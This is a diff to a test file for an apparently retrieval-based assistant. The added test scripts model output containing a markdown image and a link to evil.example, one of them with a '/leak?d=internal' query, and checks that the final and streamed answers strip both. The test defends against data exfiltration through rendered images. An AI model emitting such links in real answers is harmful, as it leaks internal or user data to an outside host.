@@ -87,3 +87,23 @@ def test_a_model_that_runs_on_is_cut_off(assistant: Assistant, passages: list[Pa
     events = run(assistant, passages, scripted(looping), max_chars=400)
     answer = events[-1]
     assert isinstance(answer, Answer) and answer.text.count("209") <= 2
+
+
+def test_injected_images_and_links_to_other_hosts_never_reach_the_answer(
+    assistant: Assistant, passages: list[Passage], n: int
+) -> None:
+    events = run(
+        assistant,
+        passages,
+        scripted(
+            f"Sutton aims for 209 MARAC referrals ![chart](https://evil.example/leak?d=internal) [{n}]. "
+            f"The number of MARAC referrals has a target of 209, [details](https://evil.example/x) [{n}]."
+        ),
+        link_hosts=["sutton.gov.uk"],
+    )
+    answer = events[-1]
+    streamed = "".join(event.text for event in events if isinstance(event, Delta))
+    assert isinstance(answer, Answer) and answer.answerer == "llm" and "209" in answer.text
+    for text in (answer.text, streamed):
+        assert "evil.example" not in text and "![" not in text and "](" not in text
+    assert problems(answer, assistant.index.chunks) == []
